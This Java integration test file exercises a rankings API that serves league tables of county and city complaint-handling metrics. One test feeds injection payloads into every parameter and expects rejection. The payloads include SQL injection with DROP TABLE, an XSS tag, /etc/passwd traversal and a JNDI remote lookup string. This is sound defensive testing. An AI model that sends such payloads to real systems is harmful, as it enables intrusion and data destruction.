package io.liangshai.api;

import static io.liangshai.api.Answers.verified;
import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.DeserializationFeature;
import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.cfg.JsonNodeFeature;
import io.liangshai.core.testing.ExpectedMetrics;
import io.vertx.core.Future;
import io.vertx.core.buffer.Buffer;
import io.vertx.core.http.HttpMethod;
import io.vertx.ext.web.Route;
import io.vertx.ext.web.client.HttpResponse;
import io.vertx.junit5.VertxExtension;
import io.vertx.junit5.VertxTestContext;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.math.BigDecimal;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.TreeSet;
import org.assertj.core.api.ThrowingConsumer;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;
import org.junit.jupiter.api.extension.RegisterExtension;

/**
 * {@code GET /api/v1/rankings} over a real ClickHouse holding the sample feed's figures: every
 * league table of the expected results reproduced, previous ranks, the row shape, scope and errors.
 */
@ExtendWith(VertxExtension.class)
class RankingApiITCase {

  @RegisterExtension static final ApiTestServer API = new ApiTestServer().withSampleCounts();

  /** 长兴县, a county of 湖州市. */
  private static final String COUNTY = "330522";

  private static final ObjectMapper JSON =
      new ObjectMapper()
          .enable(DeserializationFeature.USE_BIG_DECIMAL_FOR_FLOATS)
          .configure(JsonNodeFeature.STRIP_TRAILING_BIGDECIMAL_ZEROES, false);

  @Test
  void reproducesEveryExpectedLeagueTable(VertxTestContext ctx) {
    ExpectedMetrics expected = ExpectedMetrics.load();
    List<String> keys = new ArrayList<>(new TreeSet<>(expected.rankingKeys()));
    List<Future<HttpResponse<Buffer>>> answers = new ArrayList<>();
    for (String key : keys) {
      String[] parts = key.split("/");
      answers.add(
          API.get("/api/v1/rankings", API.adminKey())
              .addQueryParam("period", parts[0])
              .addQueryParam("group", parts[1])
              .send());
    }
    Future.all(answers)
        .onComplete(
            verified(
                ctx,
                all -> {
                  assertThat(keys).hasSize(8);
                  Answers.eachAnswer(
                      all,
                      keys,
                      (key, r) -> {
                        assertThat(r.statusCode()).as(Answers.describe(r)).isEqualTo(200);
                        assertThat(lines(tree(r)))
                            .as(key + ": tenant, received, rank, score")
                            .isEqualTo(expectedLines(expected.ranking(key)));
                      });
                }));
  }

  @Test
  void carriesJanuaryRanksIntoFebruary(VertxTestContext ctx) {
    Future<HttpResponse<Buffer>> january = rankings("2024-01", "counties", API.adminKey());
    Future<HttpResponse<Buffer>> february = rankings("2024-02", "counties", API.adminKey());
    Future.all(january, february)
        .onComplete(
            verified(
                ctx,
                all -> {
                  Map<String, Integer> januaryRanks = new HashMap<>();
                  for (JsonNode row : tree(january.result()).get("rows")) {
                    if (row.get("eligible").asBoolean()) {
                      januaryRanks.put(row.get("tenant").asText(), row.get("rank").asInt());
                    }
                  }
                  JsonNode body = tree(february.result());
                  assertThat(body.get("previous_period").asText()).isEqualTo("2024-01");
                  int withChange = 0;
                  for (JsonNode row : body.get("rows")) {
                    String tenant = row.get("tenant").asText();
                    Integer previous = januaryRanks.get(tenant);
                    if (previous == null) {
                      assertThat(row.get("previous_rank").isNull()).as(tenant).isTrue();
                      continue;
                    }
                    assertThat(row.get("previous_rank").asInt()).as(tenant).isEqualTo(previous);
                    if (row.get("eligible").asBoolean()) {
                      assertThat(row.get("rank_change").asInt())
                          .as(tenant)
                          .isEqualTo(previous - row.get("rank").asInt());
                      withChange++;
                    }
                  }
                  assertThat(withChange).isGreaterThan(40);
                }));
  }

  @Test
  void rowsCarryIntervalsSignalsAndSensitivity(VertxTestContext ctx) throws Exception {
    verifiedBody(
        ctx,
        rankings("2024-01", "mountain26", API.key(COUNTY)),
        body -> {
          assertThat(body.get("period").asText()).isEqualTo("2024-01");
          assertThat(body.get("group").asText()).isEqualTo("mountain26");
          assertThat(body.get("scheme").get("id").asText()).isEqualTo("standard");
          assertThat(body.get("scheme").get("version").asInt()).isEqualTo(1);
          assertThat(body.get("scheme").get("name").asText()).isEqualTo("标准方案");
          assertThat(body.get("pooled_rates").get("resolution_rate").asDouble())
              .isBetween(0.0, 1.0);
          assertThat(body.get("weight_sensitivity").get("draws").asInt()).isPositive();
          assertThat(body.get("rows")).hasSize(26);
          JsonNode first = body.get("rows").get(0);
          assertThat(first.get("rank").asInt()).isEqualTo(1);
          assertThat(first.get("name").asText()).matches(".*[县市区]");
          assertThat(first.get("received").isIntegralNumber()).isTrue();
          assertThat(first.get("closed").isIntegralNumber()).isTrue();
          assertThat(first.get("resolution_rate").isNumber()).isTrue();
          assertThat(fieldNames(first.get("scores")))
              .containsExactly(
                  "resolution_rate", "overdue_rate", "recurrence_rate", "satisfaction_rate");
          for (String rate : fieldNames(first.get("rates"))) {
            JsonNode detail = first.get("rates").get(rate);
            assertThat(detail.get("denominator").asLong()).as(rate).isPositive();
            assertThat(detail.get("wilson")).as(rate).hasSize(2);
            assertThat(detail.get("wilson").get(0).asDouble())
                .isLessThanOrEqualTo(detail.get("value").asDouble());
            assertThat(detail.get("funnel").asText()).isIn("above", "within", "below", "alarm");
            assertThat(detail.get("shrunk").isNumber()).isTrue();
          }
          assertThat(first.get("rank_interval")).hasSize(2);
          assertThat(first.get("rank_interval").get(0).asInt()).isPositive();
          assertThat(first.get("weight_sensitivity").has("max_abs_rank_change")).isTrue();
          for (JsonNode row : body.get("rows")) {
            assertThat(row.has("enterprise_name")).isFalse();
            assertThat(row.has("description")).isFalse();
          }
        });
  }

  @Test
  void listsIneligibleMembersUnrankedWithTheReason(VertxTestContext ctx) {
    API.get("/api/v1/rankings?period=2024-01&group=counties&scheme=standard@1", API.adminKey())
        .send()
        .onComplete(
            verified(
                ctx,
                r -> {
                  JsonNode rows = tree(r).get("rows");
                  assertThat(rows).hasSize(API.registry().members("counties").size());
                  for (JsonNode row : rows) {
                    if (!row.get("eligible").asBoolean()) {
                      assertThat(row.get("rank").isNull()).isTrue();
                      assertThat(row.get("score").isNull()).isTrue();
                      assertThat(row.get("ineligible_reason").asText()).startsWith("received ");
                    }
                  }
                }));
  }

  @Test
  void ranksAQuarter(VertxTestContext ctx) throws Exception {
    verifiedBody(
        ctx,
        rankings("2024-Q1", "cities", API.key(COUNTY)),
        body -> {
          assertThat(body.get("previous_period").asText()).isEqualTo("2023-Q4");
          assertThat(body.get("rows")).hasSize(11);
          assertThat(body.get("rows").get(0).get("rank").asInt()).isEqualTo(1);
        });
  }

  @Test
  void unknownGroupIsNotFoundAndNamesTheKnownGroups(VertxTestContext ctx) {
    rankings("2024-01", "lakeside", API.adminKey())
        .onComplete(
            verified(
                ctx,
                r -> {
                  assertError(r, 404);
                  assertThat(r.bodyAsJsonObject().getString("message"))
                      .contains("counties", "mountain26", "non_mountain", "cities");
                }));
  }

  @Test
  void unknownSchemeIsNotFound(VertxTestContext ctx) {
    // no scheme of that id; the standard scheme, but no version 2 of it
    List<String> schemes = List.of("nonesuch", "standard@2");
    Answers.verifiedEach(
        ctx,
        schemes.stream()
            .map(
                scheme ->
                    API.get("/api/v1/rankings?period=2024-01&group=counties", API.adminKey())
                        .addQueryParam("scheme", scheme)
                        .send())
            .toList(),
        schemes,
        (scheme, r) -> assertError(r, 404));
  }

  @Test
  void badOrMissingParametersAreBadRequests(VertxTestContext ctx) {
    List<String> uris =
        List.of(
            "/api/v1/rankings?period=2024-13&group=counties",
            "/api/v1/rankings?period=January&group=counties",
            "/api/v1/rankings?group=counties",
            "/api/v1/rankings?period=2024-01",
            "/api/v1/rankings?period=2024-01&period=2024-02&group=counties",
            "/api/v1/rankings?period=2024-01&group=counties&scheme=Standard");
    List<Future<HttpResponse<Buffer>>> answers = new ArrayList<>();
    uris.forEach(uri -> answers.add(API.get(uri, API.adminKey()).send()));
    Answers.verifiedEach(
        ctx,
        answers,
        uris,
        (uri, r) -> {
          assertThat(r.statusCode()).as(uri + " → " + r.bodyAsString()).isEqualTo(400);
          assertThat(r.bodyAsJsonObject().getString("error")).isEqualTo("bad_request");
        });
  }

  @Test
  void needsAKey(VertxTestContext ctx) {
    rankings("2024-01", "counties", "not-a-key")
        .onComplete(verified(ctx, r -> assertError(r, 401)));
  }

  @Test
  void injectionInEveryParameterIsRejectedNeverAServerError(VertxTestContext ctx) {
    List<String> payloads =
        List.of(
            "' OR '1'='1",
            "2024-01' OR 1=1 --",
            "counties'; DROP TABLE tenant_period_counts; --",
            "standard'); DROP TABLE schemes; --",
            "standard@1 OR 1=1",
            "standard@0",
            "standard@99999999999",
            "standard@-1",
            "1; SELECT * FROM api_keys",
            "<script>alert(1)</script>",
            "../../etc/passwd",
            "\u0000",
            "counties\u0000",
            "县".repeat(70),
            "x".repeat(5000),
            "{\"$ne\": null}",
            "%00",
            "${jndi:ldap://example.invalid/a}");
    Map<String, String> base =
        Map.of("period", "2024-01", "group", "counties", "scheme", "standard");
    List<String> what = new ArrayList<>();
    List<Future<HttpResponse<Buffer>>> answers = new ArrayList<>();
    for (String parameter : List.of("period", "group", "scheme")) {
      for (String payload : payloads) {
        var request = API.get("/api/v1/rankings", API.adminKey());
        base.forEach(
            (name, value) -> request.addQueryParam(name, name.equals(parameter) ? payload : value));
        what.add(parameter + "=" + payload);
        answers.add(request.send());
      }
    }
    Answers.verifiedEach(
        ctx,
        answers,
        what,
        (request, r) ->
            assertThat(r.statusCode())
                .as(request + " → " + r.bodyAsString())
                .isIn(400, 404, 414, 431));
  }

  @Test
  void everyApiRouteIsInTheOpenApiDocument() throws Exception {
    JsonNode paths = OpenApiDocumentTest.document().get("paths");
    int checked = 0;
    for (Route route : API.router().getRoutes()) {
      String path = route.getPath();
      if (path == null
          || !path.startsWith("/api/v1/")
          || path.endsWith("*")
          || route.methods() == null) {
        continue;
      }
      if (path.equals("/api/v1/openapi.yaml")) {
        continue;
      }
      String documented = path.substring("/api/v1".length()).replaceAll(":([a-z_]+)", "{$1}");
      for (HttpMethod method : route.methods()) {
        assertThat(OpenApiDocumentTest.methods(paths, documented))
            .as(method + " " + path)
            .contains(method.name().toLowerCase(Locale.ROOT));
        checked++;
      }
    }
    assertThat(checked).isGreaterThanOrEqualTo(11);
  }

  private static Future<HttpResponse<Buffer>> rankings(String period, String group, String key) {
    return API.get("/api/v1/rankings", key)
        .addQueryParam("period", period)
        .addQueryParam("group", group)
        .send();
  }

  /** One line per row, by tenant: its code, received, rank and score exactly as in the JSON. */
  private static List<String> lines(JsonNode body) {
    List<String> lines = new ArrayList<>();
    for (JsonNode row : body.get("rows")) {
      JsonNode score = row.get("score");
      lines.add(
          line(
              row.get("tenant").asText(),
              row.get("received").asLong(),
              row.get("rank").isNull() ? null : row.get("rank").asInt(),
              score.isNull()
                  ? "null"
                  : score.isBigDecimal()
                      ? score.decimalValue().toPlainString()
                      : "not a decimal: " + score));
    }
    lines.sort(null);
    return lines;
  }

  /** The same lines from the expected results, scores with exactly 2 decimals. */
  private static List<String> expectedLines(List<Map<String, Object>> rows) {
    List<String> lines = new ArrayList<>();
    for (Map<String, Object> row : rows) {
      Object score = row.get("score");
      lines.add(
          line(
              (String) row.get("tenant"),
              ((Number) row.get("received")).longValue(),
              (Integer) row.get("rank"),
              score == null
                  ? "null"
                  : new BigDecimal(score.toString()).setScale(2).toPlainString()));
    }
    lines.sort(null);
    return lines;
  }

  private static String line(String tenant, long received, Integer rank, String score) {
    return tenant + " received=" + received + " rank=" + rank + " score=" + score;
  }

  private static void assertError(HttpResponse<Buffer> r, int status) {
    assertThat(r.statusCode()).as(Answers.describe(r)).isEqualTo(status);
    assertThat(r.getHeader("Content-Type")).startsWith("application/json");
    assertThat(r.bodyAsJsonObject().getInteger("status")).isEqualTo(status);
    assertThat(r.bodyAsJsonObject().getString("message")).isNotBlank();
  }

  private static List<String> fieldNames(JsonNode node) {
    List<String> names = new ArrayList<>();
    node.fieldNames().forEachRemaining(names::add);
    return names;
  }

  /** Checks the body of {@code answer} after asserting its 200 (numbers read as BigDecimal). */
  private static void verifiedBody(
      VertxTestContext ctx,
      Future<HttpResponse<Buffer>> answer,
      ThrowingConsumer<JsonNode> checks) {
    answer.onComplete(
        verified(
            ctx,
            r -> {
              assertThat(r.statusCode()).as(Answers.describe(r)).isEqualTo(200);
              checks.accept(tree(r));
            }));
  }

  private static JsonNode tree(HttpResponse<Buffer> r) {
    try {
      return JSON.readTree(r.bodyAsString());
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
  }
}
